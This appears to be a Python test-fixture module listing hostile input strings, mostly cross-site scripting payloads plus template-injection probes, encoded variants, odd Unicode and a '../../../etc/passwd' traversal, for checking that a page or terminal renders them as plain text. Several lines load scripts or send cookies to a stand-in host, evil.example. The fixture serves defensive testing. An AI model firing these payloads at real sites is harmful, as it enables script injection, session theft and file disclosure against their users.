# SPDX-FileCopyrightText: 2026 the xmsg authors
# SPDX-License-Identifier: ISC

"""Texts that a page, a picture or a terminal must not take for its own."""

# Each calls something (alert, pwned) when a page takes it for more than text.
MARKUP = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<IMG ""x""><SCRIPT>alert(1)</SCRIPT>">
<img/src/onerror=alert(1)>
<img src=x:alert(1) onerror=eval(src)>
<image href=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>go</text></a></svg>
<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src onerror=alert(1)>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<a href="javascript:alert(1)">click</a>
<a href="java&#x0A;script:alert(1)">click</a>
<form action="javascript:alert(1)"><button>go</button></form>
<button formaction="javascript:alert(1)">go</button>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//evil.example">
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="//evil.example/">
<style>@import "//evil.example/x.css";</style>
<style>*{background:url(//evil.example/)}</style>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<table background="javascript:alert(1)">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xss onpointerenter=alert(1) style=display:block>x</xss>
<p onclick=pwned()>x
<dialog open onclose=alert(1)>
<plaintext>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><x onload="alert(1)"/>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
`onmouseover=alert(1)
"/><svg/onload=alert(1)>
';alert(1);//
";alert(1);//
\\";alert(1);//
\\';alert(1);//
*/alert(1);/*
${alert(1)}
`${pwned()}`
{{constructor.constructor('alert(1)')()}}
{{7*7}}[[7*7]]<%= 7*7 %>#{7*7}
javascript:alert(1)
JaVaScRiPt:alert(1)//
data:text/html,<script>alert(1)</script>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>
vbscript:msgbox(1)
//evil.example/x
http://evil.example/?cookie=
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
__proto__
constructor
hasOwnProperty
toString
(others)
../../../etc/passwd
|{}[]();,:&=?#%
""".strip("\n").split("\n")
ODD = [
    "\u202e)1(trela", "a\u200bb\u200c\u200dc\ufeff", "\u2028alert(1)\u2029",
    "\ufffd\uffff", "\U0001f4a3" * 20, "e\u0301" * 40, "\uff1cscript\uff1e",
    "<scr\u0131pt>alert(1)</scr\u0131pt>", "x" * 250, "\u0130" * 100,
]
TEXTS = MARKUP + ODD
